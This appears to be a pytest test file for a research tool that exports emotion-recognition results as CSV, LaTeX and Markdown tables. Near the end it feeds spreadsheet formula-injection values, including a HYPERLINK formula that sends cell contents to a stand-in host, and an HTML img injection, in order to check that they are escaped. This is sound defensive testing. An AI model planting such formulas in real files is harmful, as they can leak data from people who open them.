"""Tables for other programs and for papers."""

from __future__ import annotations

import csv
import dataclasses
import io
from typing import Any

import numpy as np
import pyarrow as pa
import pytest

from raysys.report.export import (
    PaperTable,
    ablation_csv,
    classes_csv,
    grid_csv,
    latex,
    markdown,
    paper_tables,
    parts_csv,
    predictions_csv,
    results_csv,
    seeds_csv,
)
from raysys.results import AblationResult, ClassScores, GridResult, PartScores, RunResult, VoteScores
from tests.report.made_up import ablation, grid, run_result, seeds, typed

POOLED = {"n": 5531, "wa": 0.7124, "ua": 0.72, "wa_ci95": [0.7, 0.73], "ua_ci95": [0.701, 0.741]}


@pytest.fixture
def results() -> RunResult:
    folds = [
        {"fold": 1, "name": "Session1", "wa": 0.5, "ua": 0.6, "point": "alpha=1"},
        {"fold": 2, "name": "a,b", "wa": 0.7, "ua": 0.8, "point": "alpha=0.1"},
    ]
    return run_result(corpus={"name": "iemocap"}, folds=folds, pooled=POOLED)


_GRID: dict[str, Any] = {
    "axes": {"loss.alpha": ["1", "0.1"]},
    "points": [
        {
            "name": "alpha=1",
            "values": {"loss.alpha": "1"},
            "validation_ua": 0.5,
            "test_ua": 0.6,
            "test_wa": 0.7,
            "stopped": False,
        },
        {
            "name": "alpha=0.1",
            "values": {"loss.alpha": "0.1"},
            "validation_ua": None,
            "test_ua": None,
            "test_wa": None,
            "stopped": True,
        },
    ],
    "nested": {"1": "alpha=1", "2": "alpha=1"},
    "optimistic": {"pooled_wa": 0.8, "pooled_ua": 0.81},
}

_ABLATION: dict[str, Any] = {
    "seeds": [0, 1],
    "variants": [
        {
            "name": "full",
            "flags": [],
            "parameters": 1000,
            "wa": [0.7, 0.8],
            "ua": [0.6, 0.7],
            "wa_mean": 0.75,
            "wa_std": 0.07,
            "ua_mean": 0.65,
            "ua_std": 0.07,
            "difference": None,
        },
        {
            "name": "50% & less_text",
            "flags": ["--loss.beta", "0"],
            "parameters": 900,
            "wa": [0.6, 0.6],
            "ua": [0.5, 0.5],
            "wa_mean": 0.6,
            "wa_std": None,
            "ua_mean": 0.5,
            "ua_std": None,
            "difference": {"ua": -0.15, "ua_ci95": [-0.2, -0.1], "wa": -0.15, "wa_ci95": [-0.25, 0.05]},
        },
    ],
}


GRID = typed(GridResult, grid(**_GRID))
ABLATION = typed(AblationResult, ablation(**_ABLATION))


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_results_are_a_row_a_fold_and_the_pooled_scores_with_intervals(results: RunResult) -> None:
    first, second, pooled = rows(results_csv(results))
    assert (first["fold"], first["name"], first["point"], first["wa"], first["wa_low"]) == (
        "1",
        "Session1",
        "alpha=1",
        "0.5",
        "",
    )
    assert second["name"] == "a,b"
    assert (pooled["name"], pooled["n"], pooled["wa_low"], pooled["ua_high"]) == ("pooled", "5531", "0.7", "0.741")


def test_classes_and_parts_are_a_row_each_with_their_intervals() -> None:
    scores = ClassScores(name="joy", n=3, speakers=2, precision=0.5, recall=1.0, recall_ci95=(0.25, 1.0), f1=0.75)
    none = ClassScores(name="=fear", n=0, speakers=0, precision=None, recall=None, recall_ci95=None, f1=None)
    first, second = rows(classes_csv([scores, none]))
    assert (first["class"], first["n"], first["recall"], first["recall_low"]) == ("joy", "3", "1.0", "0.25")
    assert (second["class"], second["n"], second["recall"], second["recall_high"]) == ("'=fear", "0", "", "")
    part = PartScores(name="improvised", n=3, speakers=2, wa=0.5, ua=0.75, wa_ci95=(0.0, 1.0), ua_ci95=(0.5, 1.0))
    first, second = rows(parts_csv([part, PartScores(name="scripted", n=0, speakers=0)]))
    assert (first["name"], first["speakers"], first["wa"], first["ua_low"]) == ("improvised", "2", "0.5", "0.5")
    assert (second["n"], second["wa"], second["wa_low"]) == ("0", "", "")


def test_predictions_read_back_as_they_are() -> None:
    shares = pa.array([0.1, 1e-9], pa.float32())
    written = predictions_csv(pa.table({"utterance_id": ["a", "+b"], "fold": [1, 2], "p_joy": shares}))
    assert written == "utterance_id,fold,p_joy\na,1,0.1\n'+b,2,1e-09\n"
    assert [np.float32(row["p_joy"]) for row in rows(written)] == shares.to_pylist()


def test_the_grid_is_a_row_a_point_with_the_folds_that_chose_it() -> None:
    first, second = rows(grid_csv(GRID))
    assert (first["loss.alpha"], first["validation_ua"], first["optimistic_test_ua"]) == ("1", "0.5", "0.6")
    assert (first["stopped"], first["chosen_by_folds"]) == ("False", "1 2")
    assert (second["validation_ua"], second["stopped"], second["chosen_by_folds"]) == ("", "True", "")


def test_a_grid_chosen_by_another_score_has_a_column_of_it() -> None:
    points = [dataclasses.replace(GRID.points[0], validation_score=0.875), GRID.points[1]]
    first, second = rows(grid_csv(dataclasses.replace(GRID, points=tuple(points)), "loss"))
    assert (first["validation_ua"], first["validation_loss"], second["validation_loss"]) == ("0.5", "0.875", "")


def test_ablations_are_a_row_a_variant_and_seed() -> None:
    found = rows(ablation_csv(ABLATION))
    assert [(row["variant"], row["seed"], row["ua"]) for row in found] == [
        ("full", "0", "0.6"),
        ("full", "1", "0.7"),
        ("50% & less_text", "0", "0.5"),
        ("50% & less_text", "1", "0.5"),
    ]
    assert (found[0]["ua_difference"], found[3]["ua_difference"], found[3]["ua_difference_low"]) == (
        "",
        "-0.15",
        "-0.2",
    )
    assert (found[3]["wa_difference_low"], found[3]["wa_difference_high"]) == ("-0.25", "0.05")
    assert found[3]["flags"] == "--loss.beta 0"


def test_the_paper_table_has_scores_with_interval_number_and_protocol(results: RunResult) -> None:
    (table,) = paper_tables(results)
    assert table.rows == (("iemocap", "both", "nested", "5531", "71.2 [70.0, 73.0]", "72.0 [70.1, 74.1]"),)


def test_the_distance_from_votes_has_columns_where_there_are_votes(results: RunResult) -> None:
    voted = dataclasses.replace(results, votes=VoteScores(n=17, kl=0.4125, js=0.1), grid=GRID)
    first, _, pooled = rows(results_csv(voted))
    assert (first["votes_kl"], pooled["votes_n"], pooled["votes_kl"], pooled["votes_js"]) == ("", "17", "0.4125", "0.1")
    (table,) = paper_tables(voted)
    assert table.headings[-2:] == ("KL from votes", "Jensen-Shannon")
    assert [row[-2:] for row in table.rows] == [("0.412", "0.100"), ("", "")]
    assert "votes_kl" not in results_csv(results) and len(paper_tables(results)[0].headings) == 6


def test_the_paper_table_tells_another_score_that_selected(results: RunResult) -> None:
    (table,) = paper_tables(dataclasses.replace(results, select="loss", seeds=seeds()))
    assert [row[2] for row in table.rows] == [
        "nested, by validation loss, seed 0",
        "nested, by validation loss, mean ± deviation of 2 seeds",
        "nested, by validation loss, ensemble of 2 seeds",
    ]


def test_the_optimistic_scores_are_marked_and_without_interval(results: RunResult) -> None:
    (table,) = paper_tables(dataclasses.replace(results, grid=GRID))
    assert table.rows[1][2:] == ("optimistic (chosen on the test folds)", "5531", "80.0", "81.0")


def test_variants_stand_in_a_table_of_their_own(results: RunResult) -> None:
    _, variants = paper_tables(dataclasses.replace(results, ablation=ABLATION))
    assert variants.rows == (
        ("full", "1,000", "75.0 ± 7.0", "65.0 ± 7.0", ""),
        ("50% & less_text", "900", "60.0", "50.0", "-15.0 [-20.0, -10.0]"),
    )


def test_seeds_are_a_row_each_then_their_mean_and_their_ensemble(results: RunResult) -> None:
    zero, three, mean, ensemble = rows(seeds_csv(seeds()))
    assert (zero["seed"], zero["wa"], zero["ua"], zero["ua_std"], zero["wa_low"]) == ("0", "0.5", "0.4", "", "")
    assert (three["seed"], three["ua"]) == ("3", "0.6")
    assert (mean["seed"], mean["ua"], mean["ua_std"], mean["ua_low"]) == ("mean", "0.5", "0.1414", "0.4")
    assert (ensemble["seed"], ensemble["ua"], ensemble["ua_std"], ensemble["ua_high"]) == (
        "ensemble",
        "0.68",
        "",
        "0.76",
    )
    (table,) = paper_tables(dataclasses.replace(results, seeds=seeds()))
    assert [row[2:] for row in table.rows] == [
        ("nested, seed 0", "5531", "71.2 [70.0, 73.0]", "72.0 [70.1, 74.1]"),
        ("nested, mean ± deviation of 2 seeds", "5531", "55.0 ± 7.1 [40.0, 60.0]", "50.0 ± 14.1 [40.0, 60.0]"),
        ("nested, ensemble of 2 seeds", "5531", "70.0 [61.0, 79.0]", "68.0 [60.0, 76.0]"),
    ]


def test_latex_is_booktabs_and_escaped() -> None:
    written = latex([PaperTable(headings=("a", "b"), rows=(("[x]_1 & 5%", r"\~^{#$} ± 1"), ("c", "[d]")))])
    assert written == (
        "% \\usepackage{booktabs}\n"
        "\\begin{tabular}{ll}\n\\toprule\na & b \\\\\n\\midrule\n"
        "{}[x]\\_1 \\& 5\\% & \\textbackslash{}\\textasciitilde{}\\textasciicircum{}\\{\\#\\$\\} $\\pm$ 1 \\\\\n"
        "c & [d] \\\\\n"
        "\\bottomrule\n\\end{tabular}\n"
    )


def test_markdown_keeps_its_columns_whatever_a_name_holds() -> None:
    assert (
        markdown([PaperTable(headings=("a", "b"), rows=(("x|y", "z\\"),))])
        == "| a | b |\n|---|---|\n| x\\|y | z\\\\ |\n"
    )
    # Nor is it markup, which many viewers render, or a line break, which ends the row.
    assert "| &lt;img src=x> &amp;lt; two |" in markdown(
        [PaperTable(headings=("a",), rows=(("<img src=x> &lt;\ntwo",),))]
    )


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x/"&A1,"x")', "+1+cmd", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "-", "--1"]
)
def test_a_name_is_no_formula_of_a_spreadsheet(results: RunResult, name: str) -> None:
    results = dataclasses.replace(results, folds=(dataclasses.replace(results.folds[0], name=name),))
    _, first, *_ = csv.reader(io.StringIO(results_csv(results), newline=""))
    assert first[1] == "'" + name.replace("\r", " ")
    named = dataclasses.replace(ABLATION, variants=(dataclasses.replace(ABLATION.variants[0], name=name),))
    _, first, *_ = csv.reader(io.StringIO(ablation_csv(named), newline=""))
    assert first[0] == "'" + name.replace("\r", " ")
    axis = dataclasses.replace(GRID, axes={name: ("1", "0.1")}, points=())
    assert next(csv.reader(io.StringIO(grid_csv(axis), newline="")))[0] == "'" + name.replace("\r", " ")


@pytest.mark.parametrize("value", ["-1", "+0.5", "-1e-3", "1"])
def test_a_number_stays_a_number(value: str) -> None:
    point = dataclasses.replace(GRID.points[0], values={"loss.alpha": value}, validation_ua=-0.5)
    _, first = csv.reader(io.StringIO(grid_csv(dataclasses.replace(GRID, points=(point,)))))
    assert first[:2] == [value, "-0.5"]
